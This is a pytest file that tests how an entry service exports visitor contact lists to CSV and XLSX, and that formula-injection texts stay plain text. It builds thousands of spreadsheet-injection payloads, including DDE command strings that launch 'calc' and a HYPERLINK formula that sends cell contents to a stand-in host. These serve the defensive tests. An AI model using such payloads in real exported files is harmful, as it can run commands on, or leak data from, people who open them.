"""Whatever a visitor typed stays a text in the files that leave: of ten thousand hostile cells none calculates."""

import csv
import io
import random
import re
import zipfile
from datetime import UTC, datetime
from xml.etree import ElementTree

import pytest

from entry_service.core.contact_list import columns, rows_of, watermark
from entry_service.spreadsheets import LONGEST_CELL, Sheet, csv_bytes, harmless, workbook_bytes
from entry_service.vault.filed import CaseContact

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "\x00",
    "＝",
    "＋",
    "－",
    "＠",
    "\u2212",
    "|",
    "%",
    "'",
    '"',
    ";",
    ",",
]
BEFORE = [
    "",
    " ",
    "   ",
    "\ufeff",
    "\u200b",
    "\u00a0",
    "\u3000",
    "\t",
    "\r\n",
    "\x0b",
    "\u2060",
    "'",
    "\u202e",
    "\u0301",
]
BODIES = [
    "1+1",
    "cmd|' /C calc'!A1",
    'HYPERLINK("http://example.invalid?x="&A1,"눌러 보세요")',
    "1+1\n=2+2",
    '";=1+1',
    "SUM(A1:A9)*cmd|' /C calc'!A0",
    "시험방문자",
    "x" * 10_000,
    "\ud800",
    "</t></is><f>1+1</f>",
    "_x003D_1+1",
    "{=1+1}",
    "010-0000-0000",
    "http://example.invalid/",
    "3.0E+5",
    "TRUE",
]


def payloads(count: int, seed: int) -> list[str]:
    """Return hostile texts: every start after every hidden beginning, and random mixtures."""
    dice = random.Random(seed)
    found = [before + start + body[:40] for before in BEFORE for start in STARTS for body in BODIES[:4]]
    while len(found) < count:
        parts = [dice.choice(BEFORE), dice.choice(STARTS), dice.choice(BODIES), dice.choice(["", *STARTS])]
        dice.shuffle(parts)
        text = "".join(parts)
        found.append(text if dice.random() < 0.01 else text[:200])
    return found[:count]


HOSTILE = payloads(10_000, seed=20)


def whole(text: str) -> str:
    """Return the text as UTF-8 holds it."""
    return re.sub("[\ud800-\udfff]", "\ufffd", text)


def looks_dangerous(text: str) -> bool:
    """Say, by other means than the code under test, whether an office program may calculate the text."""
    seen = re.sub(r"^[\s\u200b\u2060\ufeff\u202e\u0301\u3000\u00a0\x00-\x1f]+", "", text)
    return text[:1] in {"\t", "\r", "\n", "\x00"} or seen[:1] in set("=+-@＝＋－＠\u2212")


def read_csv(file: bytes) -> list[list[str]]:
    """Return the cells as an office program reads them."""
    return list(csv.reader(io.StringIO(file.decode("utf-8-sig"), newline="")))


def shared_strings(book: zipfile.ZipFile) -> list[str]:
    found = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
    texts = ("".join(part.text or "" for part in item.iter(f"{MAIN}t")) for item in found.iter(f"{MAIN}si"))
    return [re.sub("_x([0-9A-Fa-f]{4})_", lambda code: chr(int(code[1], 16)), text) for text in texts]


def test_every_hostile_text_comes_back_from_csv_as_it_was_but_for_the_apostrophe():
    file = csv_bytes(["가", "나"], [[text, 1] for text in HOSTILE])
    assert file.startswith(b"\xef\xbb\xbf")
    read = read_csv(file)
    assert read[0] == ["가", "나"]
    assert len(read) == 1 + len(HOSTILE)
    marked = 0
    for text, (cell, number) in zip(HOSTILE, read[1:], strict=True):
        assert number == "1"
        assert cell in {whole(text), f"'{whole(text)}"}
        assert not looks_dangerous(cell)
        marked += cell != whole(text)
    assert len(HOSTILE) > marked > len(HOSTILE) // 2


def test_no_hostile_text_becomes_a_formula_a_link_or_a_number_in_a_workbook():
    file = workbook_bytes(
        [Sheet(title="=1+1", columns=["=1+1"], rows=[[text] for text in HOSTILE], watermark="&=1")]
    )
    book = zipfile.ZipFile(io.BytesIO(file))
    assert not any("externalLink" in name or "hyperlink" in name for name in book.namelist())
    page = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    assert [tag for tag in ("f", "hyperlink", "hyperlinks", "is") if list(page.iter(f"{MAIN}{tag}"))] == []
    cells = list(page.iter(f"{MAIN}c"))
    assert len(cells) == 1 + len(HOSTILE)
    assert {cell.get("t") for cell in cells} == {"s"}
    strings = shared_strings(book)
    for text, cell in zip(HOSTILE, cells[1:], strict=True):
        kept = strings[int(cell.find(f"{MAIN}v").text)]
        assert normal(kept) == normal(whole(text))


def normal(text: str) -> str:
    """Return the text without what XML itself changes: ends of lines."""
    return re.sub("\r\n|\r", "\n", text)


@pytest.mark.parametrize("text", ["방문자", "010-0000-0000", "12가34나", "", "군포시", "2020-08-25 14:00", "3~15"])
def test_an_honest_text_is_not_touched(text):
    assert harmless(text) == text


def test_what_does_not_fit_is_refused_and_never_cut_off():
    fits = "가" * LONGEST_CELL
    assert workbook_bytes([Sheet(title="가", columns=["가"], rows=[[fits]])])
    with pytest.raises(ValueError, match="longer"):
        workbook_bytes([Sheet(title="가", columns=["가"], rows=[[f"{fits}가"]])])
    with pytest.raises(ValueError, match="more rows"):
        workbook_bytes([Sheet(title="가", columns=["가"], rows=[["x"]] * 1_048_577)])


def test_seventy_thousand_rows_are_seventy_thousand_rows():
    """An old format ended at 65,536 and lost 15,841 people without a word."""
    rows = [[number, "x"] for number in range(70_000)]
    book = zipfile.ZipFile(io.BytesIO(workbook_bytes([Sheet(title="가", columns=["연번", "나"], rows=rows)])))
    assert book.read("xl/worksheets/sheet1.xml").count(b"<row ") == 70_001
    assert csv_bytes(["연번", "나"], rows).count(b"\r\n") == 70_001


def test_a_hostile_contact_is_one_row_of_texts_in_the_list():
    mark = watermark("=officer", datetime(2020, 8, 25, tzinfo=UTC), [])
    contacts = [
        CaseContact(
            number=number,
            name=text,
            phone=None,
            safety_code=text,
            residence=text,
            verified=False,
            evidence=(),
            request_hash="",
        )
        for number, text in enumerate(HOSTILE[:500], 1)
    ]
    rows = rows_of(contacts, mark, [""] * len(contacts))
    assert len(rows) == 500
    assert {len(row) for row in rows} == {len(columns(15))}
    read = read_csv(csv_bytes(columns(15), rows))
    assert not any(looks_dangerous(cell) for row in read for cell in row)
